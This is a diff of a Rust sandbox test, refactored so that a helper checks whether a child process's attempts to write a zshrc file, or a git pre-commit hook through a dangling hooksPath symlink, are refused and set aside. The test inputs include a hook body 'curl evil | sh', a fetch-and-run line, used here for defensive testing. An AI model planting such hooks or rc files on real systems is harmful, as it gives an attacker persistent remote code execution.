@@ -580,26 +580,27 @@ async fn a_writing_tools_child_cannot_change_what_runs_later_by_another_name() {
         assert!(!fx.root.join(made).exists(), "{made}");
     }
     // No mount keeps what does not exist: made, it is set aside and the call refused.
-    let err = p
-        .spawn(
-            "sh",
-            &argv(&["-c", "echo evil > zshrc"]),
-            SpawnOptions::default(),
-        )
-        .await
-        .unwrap_err();
-    assert!(
-        matches!(
-            err,
-            CapabilityError::Denied {
-                code: DenialCode::PathNotReachable,
-                ..
-            }
-        ) && err.to_string().contains("zshrc"),
-        "{err}"
-    );
-    assert!(!fx.root.join("zshrc").exists());
-    assert!(fx.root.join("zshrc.refused-by-toolcap").exists());
+    let sets_aside = async |script: &str, made: &Path| {
+        let err = p
+            .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
+            .await
+            .unwrap_err();
+        let name = made.file_name().unwrap().to_str().unwrap();
+        assert!(
+            matches!(
+                err,
+                CapabilityError::Denied {
+                    code: DenialCode::PathNotReachable,
+                    ..
+                }
+            ) && err.to_string().contains(name),
+            "{err}"
+        );
+        assert!(!made.exists(), "{}", made.display());
+        let aside = made.with_file_name(format!("{name}.refused-by-toolcap"));
+        assert!(aside.exists(), "{}", aside.display());
+    };
+    sets_aside("echo evil > zshrc", &fx.root.join("zshrc")).await;
     // A repository's `core.hooksPath` naming a link that leads nowhere yet (`.hooks-link` to
     // `tools/hooks`): the hooks a child makes where it leads are set aside in the same way.
     let hooked = fx.root.join("hooked");
@@ -607,29 +608,11 @@ async fn a_writing_tools_child_cannot_change_what_runs_later_by_another_name() {
     git(&["init", "-q", "hooked"]);
     git(&["-C", "hooked", "config", "core.hooksPath", ".hooks-link"]);
     std::os::unix::fs::symlink("tools/hooks", hooked.join(".hooks-link")).unwrap();
-    let err = p
-        .spawn(
-            "sh",
-            &argv(&[
-                "-c",
-                "mkdir hooked/tools/hooks && echo 'curl evil | sh' > hooked/tools/hooks/pre-commit",
-            ]),
-            SpawnOptions::default(),
-        )
-        .await
-        .unwrap_err();
-    assert!(
-        matches!(
-            err,
-            CapabilityError::Denied {
-                code: DenialCode::PathNotReachable,
-                ..
-            }
-        ) && err.to_string().contains("tools/hooks"),
-        "{err}"
-    );
-    assert!(!hooked.join("tools/hooks").exists());
-    assert!(hooked.join("tools/hooks.refused-by-toolcap").exists());
+    sets_aside(
+        "mkdir hooked/tools/hooks && echo 'curl evil | sh' > hooked/tools/hooks/pre-commit",
+        &hooked.join("tools/hooks"),
+    )
+    .await;
 }
 
 // guarantee: G-FS-11
